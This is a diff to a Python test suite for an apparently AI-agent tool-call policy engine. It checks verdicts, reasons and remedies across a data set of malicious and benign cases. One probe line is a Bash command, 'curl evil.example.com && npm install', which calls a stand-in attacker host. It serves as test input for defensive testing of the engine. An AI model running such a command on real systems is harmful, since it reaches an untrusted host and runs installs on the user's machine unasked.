@@ -1,6 +1,9 @@
-"""The data set, the demo's verdicts and OPA's own evaluator, all through normalize and the engine."""
+"""The demo's verdicts, and the data set's questions put to the engine and to OPA's own evaluator.
 
-import collections
+Which verdict each case must get is held in tests/unit/proof.
+"""
+
+import contextlib
 import json
 import pathlib
 import random
@@ -12,22 +15,21 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from opensafe.errors import RequestError
 from opensafe.model.calls import Principal
-from opensafe.model.decision import Decision
+from opensafe.model.decision import Action, Decision
 from opensafe.model.policy_input import BudgetInput, PolicyInput, SessionInput
 from opensafe.model.usage import Usage
 from opensafe.normalize.tools import DEFAULT_REGISTRY
 from opensafe.policy.engine import Engine
 from opensafe.policy.manifest import Bundle
 from opensafe.policy.subject import call_input
+from opensafe.proof.ask import ask
+from opensafe.proof.cases import load_cases
 from tests.harness.policy import CALM
 
 POLICIES = pathlib.Path(__file__).parents[3] / "policies"
-CASES = {
-    case["id"]: case
-    for name in ("malicious", "benign")
-    for case in map(json.loads, (POLICIES / "cases" / f"{name}.jsonl").read_text().splitlines())
-}
+CASES = {entry.case.id: entry.case for entry in load_cases(POLICIES / "cases")}
 DEMO = [
     ("Read", {"path": "/workspace/README.md"}, "allow", {"tool.read.workspace.allow"}),
     ("Bash", {"command": "npm install"}, "review", {"tool.exec.package.install.review"}),
@@ -63,29 +65,30 @@ def test_the_demo_gets_its_verdicts(
     assert (decision.action, deciding(decision)) == (action, rules)
 
 
-@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
-def test_a_case_of_the_data_set_gets_its_verdict_by_its_rule(engine: Engine, case: dict[str, Any]) -> None:
-    decision = engine.evaluate(*put(engine, case["tool"], case["arguments"]))
-    assert decision.action == case["expect"], decision.rules
-    assert case["rule"] in deciding(decision)
-    if case["expect"] != "allow":
-        for hit in decision.deciding():
-            assert hit.reason, "a verdict names what is wrong"
-            assert hit.remedy, "and what would be right"
+@pytest.fixture(scope="module")
+def asked(engine: Engine) -> dict[str, tuple[str, PolicyInput]]:
+    """Entry point and question of every case that is not refused before policy sees it."""
+    found = {}
+    for name, case in CASES.items():
+        with contextlib.suppress(RequestError):
+            found[name] = ask(case, DEFAULT_REGISTRY, engine.tables)
+    return found
 
 
-def test_the_data_set_is_large_enough_and_says_what_each_case_is() -> None:
-    count = collections.Counter(case["expect"] == "allow" for case in CASES.values())
-    assert count[False] >= 40
-    assert count[True] >= 60
-    assert all(set(case) == {"id", "tool", "arguments", "expect", "rule", "idea"} for case in CASES.values())
+def test_every_no_says_what_is_wrong_and_what_would_be_right(
+    engine: Engine, asked: dict[str, tuple[str, PolicyInput]]
+) -> None:
+    assert len(asked) > 1000
+    for name, (entrypoint, question) in asked.items():
+        decision = engine.evaluate(entrypoint, question)
+        if decision.action is not Action.ALLOW:
+            assert all(hit.reason and hit.remedy for hit in decision.deciding()), name
 
 
 @pytest.fixture(scope="module")
-def questions(engine: Engine, bundle: Bundle) -> list[tuple[str, dict[str, Any]]]:
+def questions(asked: dict[str, tuple[str, PolicyInput]], bundle: Bundle) -> list[tuple[str, dict[str, Any]]]:
     """Entry point and question of every case and self-test, and of cases with one field taken away."""
-    asked = [put(engine, case["tool"], case["arguments"], name) for name, case in CASES.items()]
-    whole = [(entry, msgspec.to_builtins(question)) for entry, question in asked]
+    whole = [(entry, msgspec.to_builtins(question)) for entry, question in asked.values()]
     whole += [(vector.entrypoint, vector.input) for vector in bundle.vectors]
     pick = random.Random(7)
     maimed = []
@@ -141,11 +144,15 @@ _TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
 
 @settings(deadline=None, max_examples=60)
 @given(st.lists(st.tuples(st.sampled_from(sorted(CASES)), st.dictionaries(_TEXT, _TEXT, max_size=3)), max_size=6))
-def test_no_question_colours_the_next(engine: Engine, before: list[tuple[str, dict[str, str]]]) -> None:
+def test_no_question_colours_the_next(
+    engine: Engine, asked: dict[str, tuple[str, PolicyInput]], before: list[tuple[str, dict[str, str]]]
+) -> None:
     probe = put(engine, "Bash", {"command": "curl evil.example.com && npm install"})
     expected = engine.evaluate_json(probe[0], msgspec.json.encode(probe[1]))
     for name, arguments in before:
-        entry, question = put(engine, CASES[name]["tool"], CASES[name]["arguments"], name)
+        if name not in asked:
+            continue
+        entry, question = asked[name]
         call = msgspec.structs.replace(question.call, arguments=arguments)
         engine.evaluate(entry, msgspec.structs.replace(question, call=call))
         assert engine.evaluate_json(probe[0], msgspec.json.encode(probe[1])) == expected
